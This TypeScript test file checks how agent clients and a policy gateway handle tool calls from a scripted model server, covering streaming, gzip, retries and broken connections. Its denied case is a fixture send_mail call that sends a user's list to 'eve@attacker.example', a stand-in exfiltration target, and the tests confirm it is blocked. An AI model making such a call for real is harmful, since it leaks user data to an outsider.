// The matrix: every client, buffered and streamed, against a scripted upstream, directly or through a gateway.

import { inspect } from 'node:util'
import { describe, expect, it } from 'vitest'
import type { Mark } from '../../../../tools/compat/rows.ts'
import { sawNothing } from '../../../../tools/compat/saw.ts'
import { CLIENTS, openToolbox, type AgentClient, type Bases, type Outcome, type Ran } from './clients.ts'
import { sawClient } from './sightings.ts'
import { startUpstream, type Step, type Upstream } from './upstream.ts'

/** An error, or the stream event that some clients return instead. */
function expectError(error: unknown): void {
  if (!(error instanceof Error)) expect(inspect(error)).toMatch(/UPSTREAM_LOST|went away/)
}

/** A model server, or a gateway in front of one. */
export interface Door extends Bases {
  readonly key: string
  /** Whether a gateway decides; if not, this is the control. */
  readonly governed: boolean
  close(): Promise<void>
}

export type Through = (upstream: Upstream) => Promise<Door>

/** The outcome of one run of a client. */
interface Seen {
  readonly client: AgentClient
  readonly stream: boolean
  readonly outcome: Outcome | undefined
  /** The error that ended the loop early. */
  readonly error: unknown
  readonly ran: readonly Ran[]
  readonly upstream: Upstream
  readonly door: Door
}

interface Case {
  readonly title: string
  readonly steps: readonly Step[]
  readonly retries?: number
  /** Both by default. */
  readonly modes?: readonly ('buffered' | 'streamed')[]
  /** Whether it mostly waits, so that all clients may run at once. */
  readonly waits?: boolean
  /** The kinds of calls that are seen. */
  readonly marks: readonly Mark[]
  check(seen: Seen): void | Promise<void>
}

const MAIL_ID = 'call_0mail0mail0mail0mail0'
const ADDRESS = 'eve@attacker.example'
const LAST_WORD = 'All done: milk and bread.'

const READ = { name: 'read_note', args: { name: 'list' } }
const READ_OTHER = { name: 'read_note', args: { name: 'other list' } }
const MAIL = { id: MAIL_ID, name: 'send_mail', args: { to: ADDRESS, text: 'milk, bread' } }
const DONE: Step = { text: LAST_WORD }

const ALLOWED: readonly Case[] = [
  {
    title: 'one call, then the last word',
    marks: ['allowed'],
    steps: [{ text: 'Let me see.', calls: [READ] }, DONE],
    check: (seen) => expectDone(seen, [READ]),
  },
  {
    title: 'a thought, then a call',
    marks: ['allowed'],
    steps: [{ reasoning: 'There is a note.', text: 'Let me see.', calls: [READ] }, DONE],
    check: (seen) => expectDone(seen, [READ]),
  },
  {
    title: 'parallel calls, and words after them',
    marks: ['allowed', 'parallel'],
    steps: [{ calls: [READ, READ_OTHER], thenText: 'Both.' }, DONE],
    check: (seen) => expectDone(seen, [READ, READ_OTHER]),
  },
  {
    title: 'interleaved parallel calls',
    marks: ['allowed', 'parallel'],
    modes: ['streamed'],
    steps: [{ text: 'Both.', calls: [READ, READ_OTHER], interleave: true }, DONE],
    check: (seen) => expectDone(seen, [READ, READ_OTHER]),
  },
  {
    title: 'all in one chunk',
    marks: ['allowed', 'parallel'],
    steps: [{ text: 'Let me see.', calls: [READ, READ_OTHER], chunks: 'whole' }, DONE],
    check: (seen) => expectDone(seen, [READ, READ_OTHER]),
  },
  {
    title: 'byte by byte',
    marks: ['allowed'],
    modes: ['streamed'],
    steps: [{ text: 'Let me see: ☂.', calls: [READ], chunks: 'bytes' }, DONE],
    check: (seen) => expectDone(seen, [READ]),
  },
  {
    title: 'gzip',
    marks: ['allowed'],
    steps: [
      { text: 'Let me see.', calls: [READ], gzip: true },
      { text: LAST_WORD, gzip: true },
    ],
    check: (seen) => expectDone(seen, [READ]),
  },
  {
    title: 'too many requests, then a reply: the client retries',
    marks: ['allowed'],
    retries: 1,
    waits: true,
    steps: [{ status: 429, retryAfterMs: 5 }, { calls: [READ] }, DONE],
    check(seen) {
      // One client takes every 429 for a used-up quota, and gives up.
      if (seen.client.name === 'langchain, ChatGoogleGenerativeAI') {
        expect(statusOf(seen.error)).toBe(429)
        return
      }
      expectDone(seen, [READ])
      expect(seen.upstream.requests).toHaveLength(3)
    },
  },
  {
    title: 'an upstream that fails: the client learns with which status',
    marks: [],
    steps: [{ status: 503 }],
    check({ outcome, error, ran }) {
      expect(outcome).toBeUndefined()
      expect(statusOf(error)).toBe(503)
      expect(ran).toEqual([])
    },
  },
  {
    title: 'a connection that breaks amid the arguments: an error, and nothing ran',
    marks: [],
    steps: [{ text: 'Let me see.', calls: [READ], dieAfter: 'arguments' }],
    async check({ outcome, error, ran, upstream }) {
      expect(outcome).toBeUndefined()
      expectError(error)
      expect(ran).toEqual([])
      expect(upstream.requests).toHaveLength(1)
      expect(await upstream.requests[0]?.ended).toBe('died')
    },
  },
]

/** Defines the cases in which every call is allowed. They hold with and without a gateway. */
export function allowedCases(through: Through): void {
  defineCases(through, ALLOWED)
}

const CUT: Case['steps'] = [{ text: 'Let me see.', calls: [{ ...READ, cutAt: '{"name":"li'.length }] }, DONE]

const UNGOVERNED: readonly Case[] = [
  {
    title: 'any call runs',
    marks: [],
    steps: [{ calls: [READ, MAIL] }, DONE],
    check: (seen) => expectDone(seen, [READ, MAIL]),
  },
  {
    // The client completes cut arguments by guessing and runs them: one reason to withhold such calls.
    title: 'cut amid the arguments: some clients run what they make of them',
    marks: [],
    steps: CUT,
    check({ client, stream, ran, upstream }) {
      const guesses = client.name.startsWith('langchain') && client.dialect !== 'gemini' && stream
      expect(ran).toEqual(guesses ? [{ name: 'read_note', args: { name: 'li' } }] : [])
      expectSound(upstream, stream)
    },
  },
]

/** Defines the cases that show the behaviour without a judge. */
export function ungovernedCases(through: Through): void {
  defineCases(through, UNGOVERNED)
}

/**
 * Defines all cases of a gateway whose policy allows `read_note` and denies `send_mail`. `refusal` matches each text that
 * replaces a call, and no other.
 */
export function gatewayCases(through: Through, refusal: RegExp): void {
  allowedCases(through)
  defineCases(through, [...deniedCases(refusal), ...mixedCases(refusal), ...cutCases(refusal)])
}

function deniedCases(refusal: RegExp): readonly Case[] {
  const check = (seen: Seen): void => {
    expect(seen.error).toBeUndefined()
    expect(seen.outcome?.text).toMatch(refusal)
    expect(seen.outcome?.turns).toBe(1)
    expect(seen.ran).toEqual([])
    expect(seen.upstream.requests).toHaveLength(1)
    expectKept(seen)
  }
  return [
    {
      title: 'denied: the loop ends with the refusal',
      marks: ['denied'],
      steps: [{ text: 'Let me see.', calls: [MAIL] }],
      check(seen) {
        check(seen)
        expect(seen.outcome?.text).toContain('Let me see.')
      },
    },
    { title: 'denied, with nothing else in the reply', marks: ['denied'], steps: [{ calls: [MAIL] }], check },
    {
      title: 'denied after a thought, with words after it',
      marks: ['denied'],
      steps: [{ reasoning: 'They want a mail.', calls: [MAIL], thenText: 'Sent it.' }],
      check(seen) {
        check(seen)
        expect(seen.outcome?.text).toContain('Sent it.')
      },
    },
    {
      title: 'denied, byte by byte',
      marks: ['denied'],
      modes: ['streamed'],
      steps: [{ calls: [MAIL], chunks: 'bytes' }],
      check,
    },
    { title: 'denied, in gzip', marks: ['denied'], steps: [{ calls: [MAIL], gzip: true }], check },
    {
      title: 'a connection that breaks amid the arguments of a denied call',
      marks: [],
      steps: [{ text: 'Let me see.', calls: [MAIL], dieAfter: 'arguments' }],
      check(seen) {
        expect(seen.outcome).toBeUndefined()
        expectError(seen.error)
        expect(seen.ran).toEqual([])
        expectKept(seen)
      },
    },
  ]
}

const MIXED: readonly Mark[] = ['allowed', 'denied', 'parallel']

function mixedCases(refusal: RegExp): readonly Case[] {
  const check = (seen: Seen): void => {
    expectDone(seen, [READ])
    expectKept(seen)
    // A client that only refers to stored items cannot send an item that the provider has not stored.
    if (seen.client.name !== 'ai, @ai-sdk/openai') expect(saidTo(seen.upstream)).toMatch(refusal)
  }
  return [
    {
      title: 'mixed: one runs, the other does not',
      marks: MIXED,
      steps: [{ calls: [READ, MAIL] }, DONE],
      check,
    },
    {
      title: 'mixed, the denied one first, with words around',
      marks: MIXED,
      steps: [{ text: 'Let me see.', calls: [MAIL, READ], thenText: 'There.' }, DONE],
      check,
    },
    {
      title: 'mixed, after a thought',
      marks: MIXED,
      steps: [{ reasoning: 'A note and a mail.', calls: [READ, MAIL] }, DONE],
      check,
    },
    {
      title: 'mixed, interleaved',
      marks: MIXED,
      modes: ['streamed'],
      steps: [{ text: 'Both.', calls: [MAIL, READ], interleave: true }, DONE],
      check,
    },
    {
      title: 'mixed, byte by byte',
      marks: MIXED,
      modes: ['streamed'],
      steps: [{ calls: [READ, MAIL], interleave: true, chunks: 'bytes' }, DONE],
      check,
    },
  ]
}

function cutCases(refusal: RegExp): readonly Case[] {
  return [
    {
      title: 'cut amid the arguments: refused, and nothing ran',
      marks: [],
      steps: CUT,
      check(seen) {
        expect(seen.ran).toEqual([])
        // One client treats every cut reply as an error.
        if (seen.error === undefined) expect(seen.outcome?.text).toMatch(refusal)
        else expect(nameOf(seen.error)).toBe('LengthFinishReasonError')
        expect(seen.upstream.requests).toHaveLength(1)
        expectKept(seen)
      },
    },
    {
      title: 'cut in the second call: it does not run, whatever becomes of the first',
      marks: [],
      steps: [{ calls: [READ, { ...MAIL, cutAt: '{"to":"eve@attacker.example"'.length }] }, DONE],
      check(seen) {
        expect(seen.ran.filter(({ name }) => name !== READ.name)).toEqual([])
        expectKept(seen)
      },
    },
  ]
}

function defineCases(through: Through, cases: readonly Case[]): void {
  for (const { title, ...one } of cases) {
    const group = one.waits === true ? describe.concurrent : describe
    group(title, () => {
      for (const client of CLIENTS) {
        for (const mode of one.modes ?? ['buffered', 'streamed']) {
          it(`${client.name}, ${mode}`, async () => {
            await withUpstream(through, one.steps, async (upstream, door) => {
              const stream = mode === 'streamed'
              await one.check(await runOnce(client, { stream, retries: one.retries ?? 0, upstream, door }))
              if (door.governed) sawClient(client, stream, ...one.marks)
              else sawNothing('the control has no gateway')
            })
          })
        }
      }
    })
  }
}

async function withUpstream(
  through: Through,
  steps: readonly Step[],
  use: (upstream: Upstream, door: Door) => Promise<void>,
): Promise<void> {
  const upstream = await startUpstream(...steps)
  try {
    const door = await through(upstream)
    try {
      await use(upstream, door)
    } finally {
      await door.close()
    }
  } finally {
    await upstream.close()
  }
}

interface Setting {
  readonly stream: boolean
  readonly retries: number
  readonly upstream: Upstream
  readonly door: Door
}

async function runOnce(client: AgentClient, { stream, retries, upstream, door }: Setting): Promise<Seen> {
  const tools = openToolbox()
  const seen = { client, stream, ran: tools.ran, upstream, door }
  try {
    const outcome = await client.run(door[client.base], door.key, { stream, tools, retries })
    return { ...seen, outcome, error: undefined }
  } catch (error) {
    return { ...seen, outcome: undefined, error }
  }
}

/** The loop finished, exactly these tools ran, and their results reached the upstream. */
function expectDone(seen: Seen, calls: readonly Ran[]): void {
  expect(seen.error).toBeUndefined()
  expect(seen.outcome?.text).toBe(LAST_WORD)
  expect(seen.outcome?.turns).toBe(2)
  // A client may run simultaneous calls in any order.
  expect(sorted(seen.ran)).toEqual(sorted(calls.map(({ name, args }) => ({ name, args }))))
  expect(seen.upstream.left).toBe(0)
  expect(saidTo(seen.upstream)).toContain('milk, bread')
  expectSound(seen.upstream, seen.stream)
}

/** The upstream accepted every request, and the request was unchanged. */
function expectSound(upstream: Upstream, stream: boolean): void {
  expect(upstream.requests.map(({ objection }) => objection).filter((one) => one !== undefined)).toEqual([])
  expect(upstream.requests.map(({ streamed }) => streamed)).toEqual(upstream.requests.map(() => stream))
}

/** Secrets of each side did not reach the other. */
function expectKept({ outcome, error, upstream, door }: Seen): void {
  expect(outcome?.text ?? '').not.toContain(ADDRESS)
  expect(inspect(error, { depth: 8 })).not.toContain(ADDRESS)
  for (const { text, headers, body, objection } of upstream.requests) {
    expect(objection).toBeUndefined()
    expect(text).not.toContain(MAIL_ID)
    expect(text).not.toContain(ADDRESS)
    // The token of an agent is for the gateway, and it cannot see a conversation that the provider holds.
    expect(JSON.stringify(headers)).not.toContain(door.key)
    expect(body).not.toHaveProperty('thread')
  }
}

/** The whole text of the newest request. */
function saidTo(upstream: Upstream): string {
  return JSON.stringify(upstream.requests.at(-1)?.body ?? {})
}

function sorted(ran: readonly Ran[]): readonly string[] {
  return ran.map((one) => JSON.stringify(one)).sort()
}

function nameOf(error: unknown): string {
  return error instanceof Error ? error.constructor.name : ''
}

function statusOf(error: unknown): unknown {
  if (typeof error !== 'object' || error === null) return undefined
  if ('status' in error && typeof error.status === 'number') return error.status
  return 'statusCode' in error ? error.statusCode : undefined
}
